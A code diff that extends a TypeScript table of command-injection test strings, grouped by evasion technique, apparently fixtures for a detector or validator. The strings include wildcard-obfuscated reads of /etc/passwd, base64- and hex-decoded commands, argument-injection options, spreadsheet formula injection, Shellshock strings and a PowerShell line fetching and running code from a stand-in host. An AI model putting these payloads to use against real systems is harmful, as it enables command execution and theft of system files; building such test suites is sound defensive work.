@@ -36,7 +36,33 @@ const attacks: Readonly<Record<string, readonly string[]>> = {
     ';/???/b?n/i?',
     ';$0<<<id',
     'cu$@rl a.example',
+    ';/\\b\\i\\n//s\\h',
   ],
+  'names that a pattern or an expansion hides': [
+    'cat /etc/pa?swd',
+    '/???/c?t /e?c/passwd',
+    ';cat /e[tv]c/p[a-z]*d',
+    'it says ping$() 10.0.0.1 as the note',
+    'it says uname$u -a as the note',
+  ],
+  'a command that is decoded first': [
+    'cat `xxd -r -p <<< 2f61`',
+    '$(base64 -d <<< aWQ=)',
+    'x$(printf "\\x69d")',
+  ],
+  'what a command printed': [
+    '1;ab=$(echo q);ab1=${#ab}',
+    '10.0.0.1\nab=$(id)\nab1=${#ab}\nif [ 2 -eq $ab1 ]',
+  ],
+  'a program of no list': [
+    '10.0.0.1;frobnicate -x',
+    'a|frob /etc/a',
+    'x && frob >/tmp/a',
+    'time; ansible-doc plugin x',
+  ],
+  'a redirection': ['a.example > /tmp/x.txt'],
+  'a shell by its variable': ['echo id|$0'],
+  'a comment for whoever has a quote open': ["x #' |id"],
   'words that run others': [
     ';time id',
     '|nohup id',
@@ -55,7 +81,13 @@ const attacks: Readonly<Record<string, readonly string[]>> = {
   ],
   PowerShell: ['x; Start-Sleep -s 5', 'x | Get-ChildItem C:\\', ';iex (iwr a.example)'],
   'calls of a language': ["x');system('id')", '%x(ls)', "os.execute('id')", "a.popen('id')"],
-  'options and cells that run': ['-oProxyCommand=x', "=cmd|'/c calc'!A0", '--checkpoint-action=exec=x'],
+  'options and cells that run': [
+    '-oProxyCommand=x',
+    '--gpu-launcher="id>/tmp/a"',
+    "-o'|id>/tmp/a'",
+    "=cmd|'/c calc'!A0",
+    '--checkpoint-action=exec=x',
+  ],
   'settings of the environment': ['() { :;}; echo x', '() { _; } >_[$($())] { id; }'],
 };
 
